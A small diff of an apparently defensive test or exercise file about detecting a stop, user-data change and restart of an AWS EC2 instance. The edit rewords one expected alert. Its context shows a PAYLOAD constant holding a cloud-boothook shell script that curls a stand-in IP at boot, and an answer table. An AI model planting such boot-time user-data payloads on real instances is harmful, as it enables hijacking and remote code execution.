@@ -14,7 +14,7 @@ const PAYLOAD = Buffer.from('#cloud-boothook\n#!/bin/sh\ncurl -s http://203.0.11
 const CYCLE_ALERTS = [
   `User data of ${VICTIM} was changed between a stop and a start`,
   `jonas.falk changed the user data of ${VICTIM} and restarted it`,
-  'arn:aws:iam::123456789012:user/jonas.falk stopped instances, changed user data and started instances',
+  'Stop, user-data change and start by arn:aws:iam::123456789012:user/jonas.falk',
 ];
 const ANSWERS: readonly [step: string, answer: string, note?: string][] = [
   ['sequence', 'Yes, complete'],
